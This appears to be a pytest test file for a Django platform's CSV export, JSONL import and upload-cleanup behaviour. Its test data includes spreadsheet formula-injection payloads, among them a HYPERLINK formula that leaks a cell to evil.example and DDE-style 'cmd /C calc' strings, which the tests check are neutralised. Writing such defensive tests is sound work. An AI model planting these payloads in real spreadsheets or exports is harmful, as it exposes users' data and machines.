"""Hostile CSV cells, hostile import files, abandoned uploads, imports in batches (issue 10: items
10, 11 (imports), 14 and 15; the tests of item 15 that commit are in test_imports_under_load.py)."""

import csv
import io
import json
import os
import re
import time
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from harambee.audit.models import AuditEntry
from harambee.core.csvfile import safe_cell
from harambee.postings import importing
from harambee.postings.importing import postings_import
from harambee.postings.models import ImportRun, Posting, PostingFacet, PostingTranslation
from harambee.postings.selectors import PostingFilters
from harambee.postings.services import posting_create
from harambee.postings.validation import parse_posting
from harambee.registry.tests.factories import OrganisationFactory

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parent.parent.parent

# Cells a spreadsheet would run as formulas, and what the export must write instead.
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Open")', '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("   =1+1", "'   =1+1"),
    ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
]
HARMLESS = ["Data = evidence", "AI training (2026)", "التدريب على الذكاء الاصطناعي", "a-b", ""]


def _offer(external_id: str, title: str, member: str = "unza", **extra) -> dict:
    return {
        "id": external_id, "kind": "offer", "member": member, "title": title, "language": "en",
        "description": "Two weeks of training on machine learning for civil servants.", "modalities": ["training"],
        "themes": ["skills"], **extra,
    }  # fmt: skip


def _publish(cast, external_id: str, title: str) -> Posting:
    data = parse_posting(_offer(external_id, title))
    return posting_create(actor=None, member=cast.member, data=data, status="published")


def _publish_hostile(cast) -> dict[str, str]:
    """Offers with the hostile titles (stored without their surrounding spaces); id -> title as exported."""
    expected = {}
    for n, (title, _w) in enumerate(HOSTILE):
        posting = _publish(cast, f"O-H{n}", title)
        expected[posting.external_id] = "'" + posting.title
    return expected


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- item 10: one CSV writer, formula cells neutralised ---------------------------------------


@pytest.mark.parametrize(("value", "written"), [*HOSTILE, *((h, h) for h in HARMLESS)])
def test_a_cell_that_could_run_as_a_formula_gets_a_quote(value, written):
    assert safe_cell(value) == written


def test_numbers_stay_numbers_and_none_is_empty():
    from decimal import Decimal

    assert [safe_cell(v) for v in (-5, 2.5, Decimal("-1.50"), None, True)] == [-5, 2.5, Decimal("-1.50"), "", "True"]


def test_anonymous_csv_download_of_needs_and_offers_neutralises_hostile_titles(client, cast):
    # given published offers with hostile titles
    expected = _publish_hostile(cast)
    _publish(cast, "O-OK", "AI training (2026)")
    # when anybody downloads the list as CSV
    response = client.get("/en/offers/export.csv")
    body = b"".join(response.streaming_content).decode()
    # then every hostile title starts with a quote, the harmless one is as written
    titles = {row["id"]: row["title"] for row in _rows(body)}
    assert titles == expected | {"O-OK": "AI training (2026)"}
    assert response["Content-Disposition"] == 'attachment; filename="harambee-offers.csv"'


@pytest.mark.parametrize("to_file", [True, False], ids=["file", "stdout"])
def test_command_line_csv_export_of_postings_neutralises_hostile_titles(cast, tmp_path, to_file):
    expected = _publish_hostile(cast)
    out = io.StringIO()
    if to_file:
        call_command("export", "postings", "--format", "csv", "--out", str(tmp_path / "p.csv"), stdout=out)
        text = (tmp_path / "p.csv").read_text(encoding="utf-8")
    else:
        call_command("export", "postings", "--format", "csv", stdout=out)
        text = out.getvalue()
    assert {row["id"]: row["title"] for row in _rows(text)} == expected


def test_cooperations_csv_neutralises_hostile_titles_and_member_names(cast, tmp_path):
    from harambee.cooperation.models import Cooperation, CooperationOrigin

    # given cooperations whose titles and whose provider's name are hostile
    provider = OrganisationFactory(code="evil", name="=cmd|' /C calc'!A0")
    for title, _w in HOSTILE:
        Cooperation.objects.create(
            title=title, provider=provider, beneficiary=cast.member, origin=CooperationOrigin.DIRECT
        )
    # when they are exported
    out = tmp_path / "cooperations.csv"
    call_command("export", "cooperations", "--out", str(out), stdout=io.StringIO())
    rows = _rows(out.read_bytes().decode("utf-8"))
    # then titles and names are neutralised, the numbers are numbers (a title is one line: its tab
    # or carriage return was stored as a space, harambee.core.usertext)
    stored = [written.replace("\t", " ").replace("\r", " ") for _t, written in HOSTILE]
    assert [row["title"] for row in rows] == stored
    assert {row["provider_name"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert all(row["id"].isdigit() for row in rows)


def test_every_csv_the_platform_writes_goes_through_the_one_writer():
    # the old writers (csv.writer in the exporters) are gone: only harambee/core/csvfile.py writes CSV
    writers = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "harambee").rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["harambee/core/csvfile.py"]


# --- item 11 (imports): invalid text gives a clear error naming the line ------------------------

GOOD = json.dumps(_offer("O-GOOD", "Good offer"))
INVALID_TEXT = [
    # (raw second line, message)
    (b'{"id": "O-S", "kind": "offer", "member": "unza", "title": "A \\ud800 title", "description": "x"}',
     "lone surrogate"),
    (b'{"id": "O-S", "kind": "offer", "member": "unza", "title": "t", "description": "x", '
     b'"translations": [{"language": "fr", "title": "\\udfff", "description": "y"}]}', "lone surrogate"),
    (b'{"id": "O-N", "kind": "offer", "member": "unza", "title": "t", "description": "a \\u0000 b"}',
     "NUL character"),
    (b'{"id": "O-N", "kind": "offer", "member": "unza", "title": "t\x00", "description": "x"}', "Not valid JSON"),
    ("{\"id\": \"O-L\", \"title\": \"caf\u00e9\"}".encode("latin-1"), "Not UTF-8 text."),
    ("{\"id\": \"O-U\"}".encode("utf-16"), "Not UTF-8 text."),
]  # fmt: skip


@pytest.mark.parametrize(("line", "message"), INVALID_TEXT, ids=["surrogate", "surrogate-in-list", "nul-escape",
                                                                  "nul-byte", "latin-1", "utf-16"])  # fmt: skip
def test_invalid_text_in_an_import_is_a_problem_of_its_line(cast, tmp_path, line, message):
    # given a file whose second line holds text that is not valid Unicode text
    path = tmp_path / "postings.jsonl"
    path.write_bytes(GOOD.encode() + b"\n" + line + b"\n")
    # when the command line imports it
    err = io.StringIO()
    with pytest.raises(CommandError, match="nothing was written"):
        call_command("import", "postings", str(path), stdout=io.StringIO(), stderr=err)
    # then the problem names line 2, and nothing at all was written
    assert err.getvalue().startswith("line 2: ") and message in err.getvalue(), err.getvalue()
    assert Posting.all_objects.count() == 0 and not AuditEntry.objects.filter(content_type__model="posting").exists()


def test_a_byte_order_mark_at_the_start_of_a_file_is_accepted(cast):
    report = postings_import(lines=[b"\xef\xbb\xbf" + GOOD.encode() + b"\n"])
    assert report.ok and report.written and list(Posting.objects.values_list("external_id", flat=True)) == ["O-GOOD"]


def test_web_preview_of_a_lone_surrogate_names_the_line(client, cast, settings, tmp_path):
    settings.DATA_DIR = tmp_path
    client.force_login(cast.manager)
    upload = SimpleUploadedFile("p.jsonl", GOOD.encode() + b"\n" + INVALID_TEXT[0][0] + b"\n")
    response = client.post(reverse("postings:import"), {"member": "unza", "file": upload})
    assert response.status_code == 200
    assert "line 2: The line contains a lone surrogate" in response.content.decode()
    assert Posting.all_objects.count() == 0 and list((tmp_path / "imports").iterdir()) == []


# --- item 14: uploads of the web import never stay behind ----------------------------------------


def _upload(client, text: str, member: str = "unza"):
    upload = SimpleUploadedFile("p.jsonl", text.encode(), content_type="application/jsonl")
    return client.post(reverse("postings:import"), {"member": member, "file": upload})


def _files(tmp_path) -> list[Path]:
    return sorted((tmp_path / "imports").glob("*"))


@pytest.fixture
def importer(client, cast, settings, tmp_path):
    settings.DATA_DIR = tmp_path
    client.force_login(cast.manager)
    return client


def test_a_preview_that_fails_removes_its_upload(importer, tmp_path, monkeypatch):
    # given the import fails unexpectedly while checking the file
    def broken(**kwargs):
        list(kwargs["lines"])
        raise RuntimeError("disk on fire")

    monkeypatch.setattr("harambee.postings.views.postings_import", broken)
    # when a file is uploaded
    with pytest.raises(RuntimeError):
        _upload(importer, GOOD + "\n")
    # then its file is gone
    assert _files(tmp_path) == []


def test_a_preview_with_problems_removes_its_upload(importer, tmp_path):
    response = _upload(importer, GOOD + "\n{broken\n")
    assert "line 2: Not valid JSON" in response.content.decode()
    assert _files(tmp_path) == []


def test_a_second_upload_replaces_the_first(importer, tmp_path):
    # given a checked upload waiting for confirmation
    _upload(importer, GOOD + "\n")
    (first,) = _files(tmp_path)
    # when the same person uploads another file
    response = _upload(importer, json.dumps(_offer("O-OTHER", "Other offer")) + "\n")
    # then only the second one is kept, and it is the one the page offers to confirm
    (second,) = _files(tmp_path)
    assert first != second
    assert f'value="{second.stem}"' in response.content.decode()


def test_an_unconfirmed_upload_is_removed_by_housekeeping_after_an_hour(importer, tmp_path):
    # given an upload checked 61 minutes ago and one checked just now by someone else
    response = _upload(importer, GOOD + "\n")
    token = re.search(r'name="token" value="([^"]+)"', response.content.decode()).group(1)
    old = tmp_path / "imports" / f"{token}.jsonl"
    past = time.time() - 61 * 60
    os.utime(old, (past, past))
    recent = tmp_path / "imports" / "recent-upload-of-another-session.jsonl"
    recent.write_text(GOOD)
    # when housekeeping runs
    out = io.StringIO()
    call_command("postings", "housekeeping", stdout=out)
    # then the old upload is gone, the recent one kept
    assert "1 unconfirmed uploads removed" in out.getvalue()
    assert _files(tmp_path) == [recent]
    # and confirming the removed one says it expired (no error page), writing nothing
    response = importer.post(reverse("postings:import"), {"token": token}, follow=True)
    assert "This import has expired; upload the file again." in response.content.decode()
    assert Posting.objects.count() == 0


def test_an_upload_expires_with_its_session_token(importer, tmp_path):
    response = _upload(importer, GOOD + "\n")
    token = re.search(r'name="token" value="([^"]+)"', response.content.decode()).group(1)
    session = importer.session
    session["posting_import"]["expires"] = time.time() - 1
    session.save()
    response = importer.post(reverse("postings:import"), {"token": token}, follow=True)
    assert "This import has expired; upload the file again." in response.content.decode()
    assert Posting.objects.count() == 0 and _files(tmp_path) == []


def test_a_confirmed_import_removes_its_upload_even_when_it_fails(importer, tmp_path, monkeypatch):
    response = _upload(importer, GOOD + "\n")
    token = re.search(r'name="token" value="([^"]+)"', response.content.decode()).group(1)

    def broken(**kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr("harambee.postings.views.postings_import", broken)
    with pytest.raises(RuntimeError):
        importer.post(reverse("postings:import"), {"token": token})
    assert _files(tmp_path) == []


# --- item 15: imports in batches, a busy database ----------------------------------------------


def test_an_identifier_a_running_import_is_writing_is_refused_with_a_message(client, cast):
    # given an import still writing offer O-RUN (a hidden row)
    run = ImportRun.objects.create(pid=os.getpid())
    Posting.all_objects.create(
        external_id="O-RUN", kind="offer", member=cast.member, title="Hidden", description="x", language="en",
        import_run=run,
    )  # fmt: skip
    importing._ACTIVE_RUNS.add(run.pk)  # its process is alive and working
    try:
        # when somebody creates an offer with that identifier through the API
        client.force_login(cast.editor)
        body = {"id": "O-RUN", "member": "unza", "title": "Mine", "description": "Training.", "language": "en"}
        response = client.post("/api/v1/offers", json.dumps(body), content_type="application/json")
        # or imports a file naming it
        report = postings_import(lines=[json.dumps(_offer("O-RUN", "Mine too"))])
    finally:
        importing._ACTIVE_RUNS.discard(run.pk)
    # then both are told why, and nothing is written
    assert response.status_code == 422, response.content
    assert "An import that is still running is writing a posting with this identifier." in response.content.decode()
    assert [str(p) for p in report.problems] == [
        "line 1: id: Another import that is still running is writing this identifier."
    ]
    assert Posting.objects.count() == 0 and Posting.all_objects.count() == 1


def test_a_re_import_updates_content_translations_facets_and_search_at_once(cast):
    from harambee.postings.selectors import posting_search

    # given a published offer in English (the author chose the language) with a French translation
    posting_create(
        actor=None, member=cast.member, status="published",
        data=parse_posting(_offer("O-U", "Machine learning course", translations=[
            {"language": "fr", "title": "Cours d'apprentissage", "description": "Formation."}])),
    )  # fmt: skip
    # when a file changes its title, themes and translation, and leaves the language to detection
    changed = _offer(
        "O-U", "Data governance course", themes=["data"],
        translations=[{"language": "es", "title": "Curso de gobernanza", "description": "Formación."}],
    )  # fmt: skip
    del changed["language"]
    report = postings_import(lines=[json.dumps(changed)])
    # then the live posting has the new content everywhere, and one audit entry says what changed
    assert (report.created, report.updated) == (0, 1)
    posting = Posting.objects.get(external_id="O-U")
    assert (posting.title, posting.themes, posting.status) == ("Data governance course", ["data"], "published")
    assert (posting.language, posting.language_detected) == ("en", True)
    assert list(PostingTranslation.objects.filter(posting=posting).values_list("language", "title")) == [
        ("es", "Curso de gobernanza")
    ]
    assert set(PostingFacet.objects.filter(posting=posting, facet="theme").values_list("code", "status")) == {
        ("data", "published")
    }

    def search(q):
        return [p.external_id for p in posting_search(user=None, filters=PostingFilters(kind="offer", q=q))]

    assert (search("governance"), search("gobernanza"), search("apprentissage")) == (["O-U"], ["O-U"], [])
    assert Posting.all_objects.count() == 1
    entry = AuditEntry.objects.filter(object_id=str(posting.pk), action="update").get()
    assert entry.changes["title"] == ["Machine learning course", "Data governance course"]
    assert entry.changes["translations"] == [["fr"], ["es"]]


def test_other_database_errors_are_not_taken_for_a_busy_database(rf):
    from django.db import OperationalError

    from harambee.core.dbbusy import busy_response

    assert busy_response(rf.post("/api/v1/needs"), OperationalError("no such table: x")) is None
    assert busy_response(rf.post("/api/v1/needs"), ValueError("database is locked")) is None
    assert busy_response(rf.post("/api/v1/needs"), OperationalError("database is locked")).status_code == 503


def test_an_import_killed_with_sigkill_is_rolled_back_by_housekeeping(tmp_path):
    import signal
    import sqlite3
    import subprocess
    import sys

    harambee = str(Path(sys.executable).parent / "harambee")
    env = {k: v for k, v in os.environ.items() if k not in {"DATABASE_URL", "DJANGO_SETTINGS_MODULE"}}
    env.update(
        HARAMBEE_DATA_DIR=str(tmp_path), DJANGO_SETTINGS_MODULE="config.settings.local", HARAMBEE_EMBEDDER="none"
    )

    def run(*argv):
        return subprocess.run([harambee, *argv], cwd=ROOT, env=env, check=True, capture_output=True, text=True)

    # given a database with one active member and a file of 6,000 postings for it
    run("migrate", "--no-input", "-v", "0")
    run("shell", "-c", "from harambee.registry.services import member_create_organisation as c;"
        "c(actor=None, code='unza', name='UNZA', organisation_type='university', country=None)")  # fmt: skip
    run("gen", "postings", "--count", "6000", "--out", str(tmp_path / "p.jsonl"))
    # when an import is killed (SIGKILL) once it has written a batch
    importer = subprocess.Popen([harambee, "import", "postings", str(tmp_path / "p.jsonl")], cwd=ROOT, env=env)
    database = sqlite3.connect(tmp_path / "harambee.sqlite3", timeout=30)

    def count(where: str) -> int:
        return database.execute(f"SELECT count(*) FROM postings_posting WHERE {where}").fetchone()[0]

    deadline = time.monotonic() + 300
    while count("import_run_id IS NOT NULL") < 1000 and importer.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    importer.send_signal(signal.SIGKILL)
    importer.wait()
    # then what it wrote is hidden, and housekeeping removes it
    staged = count("import_run_id IS NOT NULL")
    assert staged >= 1000 and count("import_run_id IS NULL") == 0
    out = run("postings", "housekeeping").stdout
    assert "1 interrupted imports rolled back" in out
    assert count("1 = 1") == 0
    assert database.execute("SELECT state FROM postings_importrun").fetchall() == [("rolled_back",)]
    assert database.execute("SELECT count(*) FROM postings_postingfacet").fetchone()[0] == 0
    database.close()
